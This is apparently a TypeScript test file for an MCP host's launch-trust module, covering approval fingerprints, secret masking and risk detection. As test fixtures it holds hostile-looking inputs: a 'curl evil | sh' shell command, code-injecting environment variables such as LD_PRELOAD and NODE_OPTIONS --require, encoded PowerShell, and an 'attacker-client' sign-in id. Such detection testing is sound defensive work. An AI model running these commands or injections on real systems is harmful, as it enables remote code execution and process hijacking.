import { createHash } from 'node:crypto';
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { ResolvedLaunch } from '../../../src/core/config/types';
import {
  analyzeEnvFileRisks,
  analyzeLaunchRisks,
  describeLaunchChange,
  formatCommandLine,
  launchFingerprint,
  MASK,
  summarizeLaunch,
  type EnvFileSnapshot,
} from '../../../src/core/trust/launch';

function launch(over: Partial<ResolvedLaunch> = {}): ResolvedLaunch {
  return { command: 'node', args: ['server.js'], cwd: '/ws', env: {}, secrets: [], ...over };
}

const riskMessages = (l: Partial<ResolvedLaunch>): string[] => analyzeLaunchRisks(launch(l)).map((r) => `${r.kind}: ${r.message}`);

void test('the fingerprint changes with every part of the launch', () => {
  const base = launchFingerprint(launch());
  assert.match(base, /^[0-9a-f]{64}$/);
  assert.equal(launchFingerprint(launch()), base, 'stable');
  for (const change of [
    { command: 'nodejs' },
    { args: ['server.js', '--x'] },
    { args: ['--x', 'server.js'] },
    { cwd: '/other' },
    { env: { A: '1' } },
    { env: { A: null } },
    { envFile: '/ws/.env' },
  ] satisfies Partial<ResolvedLaunch>[]) {
    assert.notEqual(launchFingerprint(launch(change)), base, JSON.stringify(change));
  }
});

void test('the fingerprint does not depend on env order; where a password goes is part of it', () => {
  assert.equal(launchFingerprint(launch({ env: { A: '1', B: '2' } })), launchFingerprint(launch({ env: { B: '2', A: '1' } })));
  // A new password value asks again too (keyed hash, see passwords.test.ts).
  const key = 'k'.repeat(64);
  const a = launchFingerprint(launch({ env: { TOKEN: 'hunter2-secret' }, secrets: ['hunter2-secret'] }), undefined, key);
  const c = launchFingerprint(launch({ env: { OTHER: 'hunter2-secret' }, secrets: ['hunter2-secret'] }), undefined, key);
  assert.notEqual(a, c, 'where the secret goes is part of the launch');
});

void test('the summary masks passwords and token-like values and keeps the rest', () => {
  const s = summarizeLaunch(
    launch({
      args: ['--token=pass-word-1234', 'plain'],
      env: { PASS: 'pass-word-1234', GH: 'ghp_abcdefghijklmnopqrstuvwxyz0123456789', MODE: 'debug', GONE: null },
      secrets: ['pass-word-1234'],
    }),
  );
  assert.deepEqual(s.args, [`--token=${MASK}`, 'plain']);
  assert.equal(s.env.PASS, MASK);
  assert.match(s.env.GH ?? '', new RegExp(`^${MASK} \\(sha256:[0-9a-f]{8}\\)$`));
  assert.equal(s.env.MODE, 'debug');
  assert.equal(s.env.GONE, null);
  assert.ok(!JSON.stringify(s).includes('pass-word-1234'));
  assert.ok(!JSON.stringify(s).includes('ghp_abcdefghij'));
});

void test('the command line shows every argument quoted, untruncated, with hidden characters visible', () => {
  const long = 'x'.repeat(5000);
  const line = formatCommandLine('/usr/bin/node', ['a b', long, 'evil\u202Etxt.exe', '\u001b[31mred', 'q"uote']);
  assert.ok(line.includes(long), 'not truncated');
  assert.ok(line.startsWith('"/usr/bin/node" "a b" '));
  assert.ok(line.includes('"evil\\u202Etxt.exe"'));
  assert.ok(line.includes('"\\u001B[31mred"') || line.includes('"\\u001b[31mred"'));
  assert.ok(line.includes('"q\\"uote"'));
  assert.ok(!/[\u202e\u001b]/.test(line));
});

void test('inline code given to shells and interpreters is a risk', () => {
  const cases: [string, string[]][] = [
    ['bash', ['-c', 'curl evil | sh']],
    ['/bin/bash', ['-lc', 'x']],
    ['sh', ['-c', 'x']],
    ['zsh', ['-ic', 'x']],
    ['cmd.exe', ['/d', '/s', '/c', 'x']],
    ['C:\\Windows\\System32\\cmd.exe', ['/C', 'x']],
    ['node', ['-e', 'require("child_process")']],
    ['node', ['--eval=1+1']],
    ['node', ['-p', '1']],
    ['python', ['-c', 'import os']],
    ['python3', ['-u', '-c', 'import os']],
    ['python3.12', ['-cimport os']],
    ['perl', ['-e', 'x']],
    ['ruby', ['-e', 'x']],
    ['deno', ['eval', 'x']],
    ['powershell', ['-NoProfile', '-Command', 'x']],
    ['pwsh', ['-c', 'x']],
    ['pwsh.exe', ['-EncodedCommand', 'AAAA']],
    ['powershell.exe', ['-enc', 'AAAA']],
  ];
  for (const [command, args] of cases) {
    const risks = analyzeLaunchRisks(launch({ command, args }));
    assert.ok(risks.some((r) => r.kind === 'inlineCode'), `${command} ${args.join(' ')}`);
  }
});

void test('interpreters running a script file are not flagged', () => {
  for (const [command, args] of [
    ['node', ['server.js', '-e', 'not-node-flag']],
    ['bash', ['./run.sh', '-c', 'argument-of-the-script']],
    ['python', ['-m', 'mcp_server']],
    ['npx', ['-y', '@modelcontextprotocol/server-memory']],
    ['uvx', ['mcp-server-git', '--repository', '.']],
    ['pwsh', ['-File', 'x.ps1']],
    ['deno', ['run', 'main.ts']],
  ] as [string, string[]][]) {
    assert.deepEqual(riskMessages({ command, args }), [], `${command} ${args.join(' ')}`);
  }
});

void test('sudo and wrappers are looked through', () => {
  const msgs = riskMessages({ command: 'sudo', args: ['-E', 'env', 'A=1', 'bash', '-c', 'id'] });
  assert.ok(msgs.some((m) => m.startsWith('privilege: sudo')), msgs.join('\n'));
  assert.ok(msgs.some((m) => m.startsWith('inlineCode: bash -c') && m.includes('"id"')), msgs.join('\n'));
  assert.ok(riskMessages({ command: 'doas', args: ['node', 'x.js'] }).some((m) => m.startsWith('privilege: doas')));
});

void test('env that injects code is a risk; unsetting it is not', () => {
  const env = {
    NODE_OPTIONS: '--require /tmp/x.js',
    LD_PRELOAD: '/tmp/x.so',
    LD_LIBRARY_PATH: '/tmp',
    DYLD_INSERT_LIBRARIES: '/tmp/x.dylib',
    BASH_ENV: '/tmp/x.sh',
    ENV: '/tmp/x.sh',
    PYTHONSTARTUP: '/tmp/x.py',
    PERL5OPT: '-Mx',
    RUBYOPT: '-rx',
    SAFE: 'ok',
  };
  const msgs = riskMessages({ env });
  for (const name of Object.keys(env).filter((n) => n !== 'SAFE')) assert.ok(msgs.some((m) => m.startsWith(`riskyEnv: env ${name} `)), name);
  assert.ok(!msgs.some((m) => m.includes('SAFE')));
  assert.deepEqual(riskMessages({ env: { NODE_OPTIONS: null } }), []);
});

void test('a changed launch is described: arguments added and removed, env, cwd, command', () => {
  const old = summarizeLaunch(launch({ args: ['server.js', '--port', '1'], env: { A: '1', B: '2', T: 'pw12345' }, secrets: ['pw12345'] }));
  const changes = describeLaunchChange(
    old,
    launch({ command: 'bash', args: ['server.js', '--port', '2', '--extra'], cwd: '/elsewhere', env: { A: '1', B: '3', C: 'new', T: 'other-pw' }, secrets: ['other-pw'] }),
  );
  assert.deepEqual(changes, [
    'command: "node" → "bash"',
    'arguments removed: "1"',
    'arguments added: "2" "--extra"',
    'cwd: "/ws" → "/elsewhere"',
    'env B: "2" → "3"',
    'env C added: "new"',
  ]);
  assert.deepEqual(describeLaunchChange(old, launch({ args: ['server.js', '--port', '1'], env: { A: '1', B: '2', T: 'pw12345' }, secrets: ['pw12345'] })), []);
});

void test('the env file contents are part of the fingerprint, and a change says which variables changed', () => {
  const l = launch({ envFile: '/ws/.env' });
  const before: EnvFileSnapshot = { kind: 'read', variables: { A: '1', TOKEN: 'abc' } };
  const same: EnvFileSnapshot = { kind: 'read', variables: { A: '1', TOKEN: 'abc' } };
  const after: EnvFileSnapshot = { kind: 'read', variables: { A: '2', NODE_OPTIONS: '--require /tmp/x.js' } };
  assert.equal(launchFingerprint(l, before), launchFingerprint(l, same));
  assert.notEqual(launchFingerprint(l, before), launchFingerprint(l, after));
  assert.notEqual(launchFingerprint(l, before), launchFingerprint(l, { kind: 'missing' }));
  const old = summarizeLaunch(l, before);
  assert.ok(!JSON.stringify(old).includes('abc'), 'env file values are not stored');
  assert.deepEqual(describeLaunchChange(old, l, after), [
    'env file sets new variables: NODE_OPTIONS',
    'env file no longer sets: TOKEN',
    'env file changed the values of: A',
  ]);
  assert.deepEqual(
    analyzeEnvFileRisks(after).map((r) => r.message),
    ['env file sets NODE_OPTIONS, which can make Node.js load any module (--require, --import): "--require /tmp/x.js"'],
  );
});

// Remote servers (#12): the URL and headers are what the user approves.
const remoteLaunch = (url: string, headers: Record<string, string> = {}, secrets: string[] = []): ResolvedLaunch =>
  launch({ command: '', args: [], env: {}, secrets, remote: { type: 'http', url, headers } });

void test('a remote launch is fingerprinted by type, URL and headers; a command launch keeps its fingerprint', () => {
  // Commands: the same fingerprint as before remote servers existed (stored approvals stay valid).
  const canonical = JSON.stringify({ args: ['server.js'], command: 'node', cwd: '/ws', env: {}, envFile: null, v: 1 });
  assert.equal(launchFingerprint(launch()), createHash('sha256').update(canonical).digest('hex'));
  const base = launchFingerprint(remoteLaunch('https://h/mcp', { 'X-Team': 'a' }));
  for (const other of [
    remoteLaunch('https://h/other', { 'X-Team': 'a' }),
    remoteLaunch('https://h/mcp', { 'X-Team': 'b' }),
    remoteLaunch('https://h/mcp', {}),
    launch({ command: '', args: [], env: {}, remote: { type: 'ws', url: 'https://h/mcp', headers: { 'X-Team': 'a' } } }),
  ]) {
    assert.notEqual(launchFingerprint(other), base, JSON.stringify(other.remote));
  }
  // A header holding a password value is fingerprinted with the key from the secret store (#10 finding 2): a new
  // password value asks again, and nothing is fingerprinted without the key.
  const key = 'k'.repeat(64);
  assert.notEqual(
    launchFingerprint(remoteLaunch('https://h/mcp', { Authorization: 'Bearer one-secret' }, ['one-secret']), undefined, key),
    launchFingerprint(remoteLaunch('https://h/mcp', { Authorization: 'Bearer two-secret' }, ['two-secret']), undefined, key),
  );
  assert.throws(() => launchFingerprint(remoteLaunch('https://h/mcp', { Authorization: 'Bearer one-secret' }, ['one-secret'])), { code: 'fingerprintKeyMissing' });
});

void test('the remote summary masks password values, tokens in headers and URL passwords; a change names URL and headers', () => {
  const s = summarizeLaunch(remoteLaunch('https://user:pw-in-url@h/mcp?key=pass-value', { Authorization: 'Bearer pass-value', 'X-Api-Key': 'sk-abcdefghijklmnopqrstuvwxyz123456', 'X-Team': 'blue' }, ['pass-value']));
  const text = JSON.stringify(s);
  assert.ok(!text.includes('pass-value') && !text.includes('pw-in-url') && !text.includes('sk-abcdef'), text);
  assert.equal(s.remote?.headers.Authorization, `Bearer ${MASK}`);
  assert.match(s.remote?.headers['X-Api-Key'] ?? '', /^•+ \(sha256:[0-9a-f]{8}\)$/);
  assert.equal(s.remote?.headers['X-Team'], 'blue');
  const changes = describeLaunchChange(s, remoteLaunch('https://h/v2', { 'X-Team': 'red', 'X-New': '1' }));
  assert.deepEqual(changes.filter((c) => !c.startsWith('header X-Api-Key') && !c.startsWith('header Authorization')), [
    `URL: "https://user:${MASK}${createHash('sha256').update('pw-in-url').digest('hex').slice(0, 8)}@h/mcp?key=${MASK}" → "https://h/v2"`,
    'header X-New added: "1"',
    'header X-Team: "blue" → "red"',
  ]);
});

void test('a literal key in the URL query is masked in the remote summary (dialog and stored record), with a hash so a change shows', () => {
  const key = 'sk-' + 'live-0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d';
  const s = summarizeLaunch(remoteLaunch(`https://h/mcp?api_key=${key}&team=blue`));
  assert.ok(!JSON.stringify(s).includes(key), JSON.stringify(s));
  assert.match(s.remote?.url ?? '', /^https:\/\/h\/mcp\?api_key=•+\(sha256:[0-9a-f]{8}\)&team=blue$|^https:\/\/h\/mcp\?api_key=•+[0-9a-f]{8}&team=blue$/);
  const changed = summarizeLaunch(remoteLaunch(`https://h/mcp?api_key=${key}x&team=blue`));
  assert.notEqual(changed.remote?.url, s.remote?.url, 'another key shows as a change');
});

// Sign-in (#13): the client MCP Host signs in as decides where the user's credentials go, so it is approved too.
void test('the sign-in client (oauth.clientId, the client secret input) is part of a remote approval, and a change names it', () => {
  const withClient = (oauth: NonNullable<NonNullable<ResolvedLaunch['remote']>['oauth']> | undefined, secrets: string[] = [], secretInputs?: { inputId: string; value: string }[]) =>
    launch({ command: '', args: [], env: {}, secrets, ...(secretInputs ? { secretInputs } : {}), remote: { type: 'http', url: 'https://h/mcp', headers: {}, ...(oauth ? { oauth } : {}) } });
  // A server without `oauth` keeps its fingerprint (approvals stored before stay valid).
  assert.equal(launchFingerprint(withClient(undefined)), launchFingerprint(remoteLaunch('https://h/mcp')));
  const approved = withClient({ clientId: 'mcp-host-desktop' });
  const base = launchFingerprint(approved);
  assert.notEqual(launchFingerprint(withClient({ clientId: 'attacker-client' })), base, 'another client id asks again');
  assert.notEqual(launchFingerprint(withClient(undefined)), base, 'a removed client id asks again');
  assert.equal(launchFingerprint(withClient({ clientId: 'mcp-host-desktop' })), base, 'stable');
  // The dialog's summary shows the client id; the change names it.
  const s = summarizeLaunch(approved);
  assert.deepEqual(s.remote?.oauth, { clientId: 'mcp-host-desktop' });
  assert.deepEqual(describeLaunchChange(s, withClient({ clientId: 'attacker-client' })), ['sign-in client id (oauth.clientId): "mcp-host-desktop" → "attacker-client"']);
  assert.deepEqual(describeLaunchChange(s, withClient(undefined)), ['sign-in client id (oauth.clientId) removed']);
  assert.deepEqual(describeLaunchChange(summarizeLaunch(withClient(undefined)), approved), ['sign-in client id (oauth.clientId) added: "mcp-host-desktop"']);
  // A client secret (always a password input) is masked naming its input; another input or value asks again.
  const key = 'k'.repeat(64);
  const secretA = withClient({ clientId: 'c', clientSecret: 'secret-one' }, ['secret-one'], [{ inputId: 'clientSecret', value: 'secret-one' }]);
  const secretB = withClient({ clientId: 'c', clientSecret: 'secret-two' }, ['secret-two'], [{ inputId: 'otherSecret', value: 'secret-two' }]);
  assert.notEqual(launchFingerprint(secretA, undefined, key), launchFingerprint(secretB, undefined, key));
  const sa = summarizeLaunch(secretA);
  assert.deepEqual(sa.remote?.oauth, { clientId: 'c', clientSecret: `${MASK}(input:clientSecret)` });
  assert.ok(!JSON.stringify(sa).includes('secret-one'));
  assert.deepEqual(describeLaunchChange(sa, secretB), [`sign-in client secret: ${MASK}(input:clientSecret) → ${MASK}(input:otherSecret)`]);
});
